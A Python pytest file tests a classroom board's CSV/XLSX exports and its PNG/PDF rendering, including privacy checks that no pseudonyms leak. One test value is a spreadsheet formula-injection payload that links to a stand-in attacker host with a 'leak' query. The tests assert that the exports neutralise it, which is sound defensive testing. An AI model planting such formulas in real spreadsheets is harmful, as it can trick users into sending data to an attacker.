"""A board on record: the staff's spreadsheet (CSV and XLSX) and the picture of the board
(PNG and PDF).

The rows are written straight to a migrated database (no boards service involved): named
and anonymous posts, one removed and one held for moderation, comments, likes, votes and
star ratings, an attachment and a connector. The spreadsheet must hold every post with its
status and never a pseudonym; the picture only what the class saw, drawn so that a broken
layout shows (the notes' colours are sampled where the notes must be)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from aiohttp import web
from PIL import Image

from server.boards import snapshot
from server.boards.export import Tables, tables, to_csv, to_xlsx
from server.boards.models import (
    Board,
    BoardAttachment,
    BoardComment,
    BoardConnector,
    BoardPost,
    BoardReaction,
)
from server.boards.snapshot import Note, Picture, picture, render_pdf, render_png
from server.core.auth.roles import Role
from server.core.clock import ManualClock
from server.core.db import Database
from server.core.keys import DATABASE
from tests import debian
from tests.conftest import NodeFactory, add_person
from tests.factories import make_class

POSTS_HEADER = [
    "번호 (id)", "섹션 (section)", "제목 (title)", "내용 (text)", "링크 (link)",
    "첨부 파일 (attachment)", "색 (colour)", "작성자 (author)", "상태 (status)",
    "강조 (highlighted)", "평가 (grade)", "좋아요 (likes)", "투표 (votes)",
    "별점 평균 (stars)", "댓글 수 (comments)", "작성 시각 (created at)",
    "수정 시각 (edited at)",
]  # fmt: skip
FORMULA = '=HYPERLINK("http://evil.example/?leak","클릭")'
# The pseudonyms of the class: none may ever appear in an export.
TAGS = {"kim": "tag-kim-7f3a9c", "lee": "tag-lee-51d0e2", "choi": "tag-choi-c0ffee"}
LAYOUTS = ("wall", "grid", "columns", "canvas", "timeline")


@dataclass
class Seeded:
    database: Database
    board_id: int
    posts: dict[str, int]
    kim_id: int


@pytest.fixture
async def database(nodes: NodeFactory) -> AsyncIterator[Database]:
    database = Database(nodes.database_url)
    yield database
    await database.close()


@pytest.fixture
async def seeded(database: Database, clock: ManualClock) -> Seeded:
    """A columns board of a class: five posts of every kind, three comments, reactions."""
    holder = web.Application()  # the factories want only the database of an app
    holder[DATABASE] = database
    kim = await add_person(holder, "kim", [Role.TRAINEE], clock, name="김민지")
    lee = await add_person(holder, "lee", [Role.TRAINEE], clock, name="이서준")
    choi = await add_person(holder, "choi", [Role.TRAINEE], clock, name="최유나")
    klass = await make_class(holder, clock, trainees=[kim.id, lee.id, choi.id])
    async with database.unit_of_work() as session:
        board = Board(
            class_session_id=klass.class_session_id, title="오늘의 생각", layout="columns",
            sections=[{"id": "s1", "title": "좋았던 점"}, {"id": "s2", "title": "궁금한 점"}],
            created_at=clock.now(),
        )  # fmt: skip
        session.add(board)
        await session.flush()
        attachment = BoardAttachment(
            board_id=board.id, uploader_tag=TAGS["kim"], kind="file",
            content_type="application/pdf", filename="발표자료.pdf", size=1234,
            key="boards/x/발표자료.pdf", created_at=clock.now(),
        )  # fmt: skip
        session.add(attachment)
        await session.flush()

        def post(tag: str, status: str, **fields: object) -> BoardPost:
            clock.advance(60)
            made = BoardPost(board_id=board.id, author_tag=TAGS[tag], status=status,
                             created_at=clock.now(), **fields)  # fmt: skip
            session.add(made)
            return made

        named = post(
            "kim", "published", author_id=kim.id, author_name="김민지", title="오늘 배운 점",
            body="<p>청렴 &amp; 공정</p><p>책임<br>시민</p><ul><li>하나</li><li>둘</li></ul>",
            link_url="https://example.org/a", link_title="참고 자료", attachment_id=attachment.id,
            colour="yellow", section_id="s1", rank=2.0, highlighted=True, grade="A",
        )  # fmt: skip
        anonymous = post("lee", "published", title=FORMULA, body="<p>질문입니다</p>",
                         colour="pink", section_id="s2", rank=1.0)  # fmt: skip
        removed = post("choi", "removed", title="지운 글", body="<b>욕설</b>", colour="blue",
                       section_id="s1", rank=3.0)  # fmt: skip
        pending = post("lee", "pending", author_id=lee.id, author_name="이서준",
                       title="검토 중", body="기다림", section_id="s2", rank=2.0)  # fmt: skip
        unrated = post("choi", "published", title="별점 없음", body="", colour="green",
                       section_id="s1", rank=1.0)  # fmt: skip
        await session.flush()
        named.edited_at = clock.now() + timedelta(minutes=5)
        comments = [
            (named, "choi", None, None, "좋아요!", "published"),
            (named, "lee", lee.id, "이서준", "동의합니다", "published"),
            (named, "lee", None, None, "지운 댓글", "removed"),
        ]
        for on, tag, author_id, name, body, status in comments:
            clock.advance(10)
            session.add(BoardComment(post_id=on.id, author_tag=TAGS[tag], author_id=author_id,
                                     author_name=name, body=body, status=status,
                                     created_at=clock.now()))  # fmt: skip
        reactions = [
            (named, "lee", "like", 1), (named, "choi", "like", 1), (named, "choi", "vote", 1),
            (named, "lee", "star", 5), (named, "choi", "star", 4), (anonymous, "kim", "star", 3),
            (anonymous, "kim", "like", 1), (removed, "kim", "like", 1),
        ]  # fmt: skip
        for on, tag, kind, value in reactions:
            session.add(BoardReaction(post_id=on.id, voter_tag=TAGS[tag], kind=kind, value=value))
        session.add(BoardConnector(board_id=board.id, from_post_id=named.id,
                                   to_post_id=anonymous.id, label="그래서"))  # fmt: skip
        session.add(BoardConnector(board_id=board.id, from_post_id=removed.id,
                                   to_post_id=named.id))  # fmt: skip
    posts = {"named": named.id, "anonymous": anonymous.id, "removed": removed.id,
             "pending": pending.id, "unrated": unrated.id}  # fmt: skip
    return Seeded(database, board.id, posts, kim.id)


async def read_tables(seeded: Seeded) -> Tables:
    async with seeded.database.unit_of_work() as session:
        return await tables(session, seeded.board_id)


def assert_no_pseudonym(everything: str) -> None:
    for tag in TAGS.values():
        assert tag not in everything
    for name in ("최유나",):  # choi only ever wrote anonymously
        assert name not in everything


# ---- the spreadsheet -------------------------------------------------------------------------


async def test_csv_holds_every_post_with_its_status_and_no_pseudonym(seeded: Seeded) -> None:
    raw = to_csv(await read_tables(seeded))
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    text = raw.decode("utf-8-sig")
    assert "\r\n" in text
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header == POSTS_HEADER
    p = seeded.posts
    assert rows == [
        [str(p["named"]), "좋았던 점", "오늘 배운 점", "청렴 & 공정\n책임\n시민\n• 하나\n• 둘",
         "https://example.org/a", "발표자료.pdf", "yellow", "김민지", "published", "yes", "A",
         "2", "1", "4.5", "2", "2020-10-05T09:01:00+09:00", "2020-10-05T09:10:00+09:00"],
        [str(p["anonymous"]), "궁금한 점", "'" + FORMULA, "질문입니다", "", "", "pink",
         "(익명)", "published", "", "", "1", "0", "3.0", "0", "2020-10-05T09:02:00+09:00", ""],
        [str(p["removed"]), "좋았던 점", "지운 글", "욕설", "", "", "blue", "(익명)", "removed",
         "", "", "1", "0", "", "0", "2020-10-05T09:03:00+09:00", ""],
        [str(p["pending"]), "궁금한 점", "검토 중", "기다림", "", "", "yellow", "이서준",
         "pending", "", "", "0", "0", "", "0", "2020-10-05T09:04:00+09:00", ""],
        [str(p["unrated"]), "좋았던 점", "별점 없음", "", "", "", "green", "(익명)",
         "published", "", "", "0", "0", "", "0", "2020-10-05T09:05:00+09:00", ""],
    ]  # fmt: skip
    assert_no_pseudonym(raw.decode("utf-8-sig"))


async def test_xlsx_has_three_sheets_counts_only_and_no_pseudonym(seeded: Seeded) -> None:
    data = await read_tables(seeded)
    raw = to_xlsx(data, "오늘의 생각")
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:  # every part of the file, unpacked
        unpacked = "".join(archive.read(name).decode("utf-8", "replace")
                           for name in archive.namelist())  # fmt: skip
    assert_no_pseudonym(unpacked)
    book = openpyxl.load_workbook(io.BytesIO(raw))
    assert book.sheetnames == ["posts", "comments", "reactions"]
    assert book.properties.title == "오늘의 생각"
    counts = {name: book[name].max_row for name in book.sheetnames}
    assert counts == {"posts": 6, "comments": 4, "reactions": 6}  # a header row each
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        assert not any(cell.font.bold for cell in sheet[2])
    posts = book["posts"]
    assert [c.value for c in posts[1]] == POSTS_HEADER
    widths = [posts.column_dimensions[chr(ord("A") + n)].width for n in range(len(POSTS_HEADER))]
    assert all(w >= 10 for w in widths), widths
    formula = posts.cell(row=3, column=3)
    assert (formula.value, formula.data_type) == (FORMULA, "s")  # text, never run
    values = [[c.value for c in row] for row in posts.iter_rows(min_row=2)]
    assert [row[8] for row in values] == ["published", "published", "removed", "pending",
                                          "published"]  # fmt: skip
    assert [row[7] for row in values] == ["김민지", "(익명)", "(익명)", "이서준", "(익명)"]
    assert [row[13] for row in values] == [4.5, 3.0, None, None, None]  # unknown is not 0
    assert values[0][11:15] == [2, 1, 4.5, 2]  # likes, votes, stars, published comments
    p = seeded.posts
    comments = [[c.value for c in row] for row in book["comments"].iter_rows(min_row=2)]
    assert [(r[0], r[2], r[3], r[4]) for r in comments] == [
        (p["named"], "(익명)", "좋아요!", "published"),
        (p["named"], "이서준", "동의합니다", "published"),
        (p["named"], "(익명)", "지운 댓글", "removed"),
    ]
    reactions = [[c.value for c in row] for row in book["reactions"].iter_rows(min_row=2)]
    assert [c.value for c in book["reactions"][1]] == [
        "게시물 번호 (post id)", "좋아요 (likes)", "투표 (votes)", "별점 수 (star ratings)",
        "별점 평균 (star average)",
    ]  # fmt: skip
    assert reactions == [
        [p["named"], 2, 1, 2, 4.5],
        [p["anonymous"], 1, 0, 1, 3.0],
        [p["removed"], 1, 0, 0, None],
        [p["pending"], 0, 0, 0, None],
        [p["unrated"], 0, 0, 0, None],
    ]


async def test_an_empty_board_exports_headers_only(database: Database, seeded: Seeded) -> None:
    async with database.unit_of_work() as session:
        board = await session.get(Board, seeded.board_id)
        assert board is not None
        empty = Board(class_session_id=board.class_session_id, group_id=1, title="빈 보드",
                      layout="wall", sections=[], created_at=board.created_at)  # fmt: skip
        session.add(empty)
        await session.flush()
        data = await tables(session, empty.id)
    assert [len(t) for t in data.values()] == [1, 1, 1]
    assert to_csv(data).decode("utf-8-sig").splitlines() == [",".join(POSTS_HEADER)]
    assert openpyxl.load_workbook(io.BytesIO(to_xlsx(data, "빈 보드")))["posts"].max_row == 1


# ---- the picture: what the class saw ---------------------------------------------------------


async def test_the_picture_holds_published_posts_only_in_board_order(seeded: Seeded) -> None:
    async with seeded.database.unit_of_work() as session:
        shown = await picture(session, seeded.board_id)
    p = seeded.posts
    assert (shown.title, shown.layout) == ("오늘의 생각", "columns")
    assert shown.sections == [("s1", "좋았던 점"), ("s2", "궁금한 점")]
    # by section, then rank: the unrated post (rank 1) before the named one (rank 2)
    assert [n.id for n in shown.notes] == [p["unrated"], p["named"], p["anonymous"]]
    unrated, named, anonymous = shown.notes
    assert named == Note(
        id=p["named"], title="오늘 배운 점", colour="yellow",
        text="청렴 & 공정\n책임\n시민\n• 하나\n• 둘\n참고 자료",  # the link's title last
        author="김민지", section_id="s1", x=None, y=None, happened_on=None,
        highlighted=True, attachment="발표자료.pdf", likes=2, stars=4.5,
    )  # fmt: skip
    assert (anonymous.author, anonymous.title, anonymous.stars) == ("(익명)", FORMULA, 3.0)
    assert (unrated.stars, unrated.likes, unrated.attachment) == (None, 0, None)
    assert shown.connectors == [(p["named"], p["anonymous"], "그래서")]  # not the removed one
    assert_no_pseudonym(repr(shown))


# ---- drawing it ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def font() -> Path:
    """Noto Sans CJK, installed when missing (as the browser tests do), and found."""
    debian.ensure_file(snapshot.NOTO_CJK, "fonts-noto-cjk")
    found = snapshot.find_font()
    assert found is not None
    return found


def sample(layout: str) -> Picture:
    notes = [
        Note(1, "오늘 배운 점", "공공기관의 핵심가치는 청렴, 공정, 책임입니다. " * 6, "yellow",
             "김민지", "s1", 120, 100, "2024-03-04", True, "발표자료.pdf", 3, 4.5),
        Note(2, "질문", "띄어쓰기없이아주긴한국어문장도노트의너비에맞춰서줄을바꿔야합니다" * 3,
             "pink", "(익명)", "s2", 800, 420, "2024-03-01", False, None, 0, None),
        Note(3, "Idea", "Plain English text, wrapped at spaces.", "#7e57c2", "이서준", None,
             1500, 150, None, False, "photo.png", 12, 3.0),
        Note(4, "", "제목 없는 메모", "grey", "(익명)", "s1", None, None, "2024-03-02"),
    ]  # fmt: skip
    sections = [("s1", "좋았던 점"), ("s2", "궁금한 점")]
    connectors = [(1, 2, "그래서"), (2, 3, ""), (3, 99, "gone")] if layout == "canvas" else []
    return Picture("핵심가치 공유 1기 — 오늘의 생각", layout, sections, notes, connectors)


def opened(png: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(png))
    assert image.format == "PNG"
    return image.convert("RGB")


@pytest.mark.parametrize("layout", LAYOUTS)
def test_every_layout_renders_a_png_of_a_sensible_size(layout: str, font: Path) -> None:
    image = opened(render_png(sample(layout), font_path=font))
    assert 600 <= image.width <= 3000, image.size
    assert 300 <= image.height <= 3000, image.size
    colours = {colour for _, colour in image.getcolors(maxcolors=1 << 20) or []}
    for fill in ("yellow", "pink", "grey"):
        assert snapshot.fill_of(fill) in colours, (layout, fill)
    assert snapshot.fill_of("#7e57c2") == (126, 87, 194)
    assert snapshot.fill_of("#7e57c2") in colours


def test_the_canvas_draws_its_connectors(font: Path) -> None:
    drawn = opened(render_png(sample("canvas"), font_path=font))
    plain = opened(render_png(replace_connectors(sample("canvas"), []), font_path=font))
    assert drawn.size == plain.size
    assert pixels_of(drawn, snapshot.ARROW) > pixels_of(plain, snapshot.ARROW) + 300  # 2 arrows


def pixels_of(image: Image.Image, colour: tuple[int, int, int]) -> int:
    return sum(n for n, c in image.getcolors(maxcolors=1 << 24) or [] if c == colour)


def replace_connectors(shown: Picture, connectors: list[tuple[int, int, str]]) -> Picture:
    return Picture(shown.title, shown.layout, shown.sections, shown.notes, connectors)


def test_a_columns_board_puts_each_note_in_its_sections_column(font: Path) -> None:
    """Sampled down the left padding of each column's note: its own fill, never the other's
    (a note drawn in the wrong column, or not at all, fails)."""
    shown = Picture("두 열", "columns", [("a", "하나"), ("b", "둘")], [
        Note(1, "노랑", "첫째 열", "yellow", "(익명)", "a"),
        Note(2, "파랑", "둘째 열", "blue", "김민지", "b"),
    ])  # fmt: skip
    image = opened(render_png(shown, font_path=font))
    column = snapshot.NOTE_WIDTH + 2 * snapshot.COLUMN_PAD + snapshot.GAP
    yellow, blue = snapshot.fill_of("yellow"), snapshot.fill_of("blue")
    for n, (mine, other) in enumerate(((yellow, blue), (blue, yellow))):
        left = snapshot.MARGIN + snapshot.COLUMN_PAD + n * column  # the note's left edge
        strip = [image.getpixel((left + 6, y)) for y in range(image.height)]
        assert strip.count(mine) >= 50, (n, strip.count(mine))
        assert other not in strip
        run = [y for y, colour in enumerate(strip) if colour == mine]
        assert run == list(range(run[0], run[-1] + 1))  # one note, one unbroken rectangle
        centre = (left + snapshot.NOTE_WIDTH // 2, (run[0] + run[-1]) // 2)
        assert image.getpixel(centre) == mine, (n, centre)
    assert image.getpixel((image.width - 5, image.height - 5)) == snapshot.BACKGROUND


def test_hangul_is_drawn_with_the_korean_font_not_boxes(font: Path) -> None:
    def drawn(title: str) -> bytes:
        shown = Picture("글꼴", "wall", [], [Note(1, title, "", "white", "(익명)")])
        return opened(render_png(shown, font_path=font)).tobytes()

    hangul, squares, missing = drawn("한글"), drawn("□□"), drawn("\U000f0000\U000f0000")
    assert hangul != squares
    assert hangul != missing  # a font without Hangul draws its box for each


def test_without_a_font_the_picture_is_still_drawn() -> None:
    image = opened(render_png(sample("columns"), font_path=None))
    assert image.width >= snapshot.MIN_WIDTH


def test_wrapping_measures_korean_without_spaces(font: Path) -> None:
    fonts = snapshot._fonts(font)
    lines = snapshot.wrap(fonts.body, "가" * 200, 200, 4)
    assert len(lines) == 4
    assert all(fonts.body.length(line) <= 200 for line in lines)
    assert lines[-1].endswith("…")
    assert snapshot.wrap(fonts.body, "짧은 글", 200, 4) == ["짧은 글"]
    words = snapshot.wrap(fonts.body, "청렴 공정 책임 " * 10, 150, 20)
    assert all(not line.startswith(" ") for line in words)
    assert len(words) > 2


def test_the_pdf_is_a_pdf_with_a_page_per_a4_of_height(font: Path) -> None:
    one = render_pdf(sample("grid"), font_path=font)
    assert one.startswith(b"%PDF")
    assert len(re.findall(rb"/Type\s*/Page\b", one)) == 1
    notes = [Note(n, f"메모 {n}", "내용 " * 20, "yellow", "(익명)", "a") for n in range(30)]
    tall = Picture("긴 열", "columns", [("a", "하나")], notes)
    pages = render_pdf(tall, font_path=font)
    assert len(re.findall(rb"/Type\s*/Page\b", pages)) >= 3


def test_an_empty_board_still_has_a_picture(font: Path) -> None:
    for layout in LAYOUTS:
        image = opened(render_png(Picture("빈 보드", layout), font_path=font))
        assert image.width >= snapshot.MIN_WIDTH


def test_a_board_too_tall_for_one_picture_is_cut_and_says_so(font: Path) -> None:
    notes = [Note(n, f"메모 {n}", "내용 " * 40, "yellow", "(익명)", "a") for n in range(200)]
    tall = Picture("아주 긴 열", "columns", [("a", "하나")], notes)
    image = opened(render_png(tall, font_path=font))
    cut = snapshot.BAR + 2 * snapshot.MARGIN + snapshot.MAX_HEIGHT + snapshot.CUT_BAND
    assert image.height == cut
    assert image.getpixel((5, image.height - 5)) == snapshot.BAR_FILL  # the line saying so
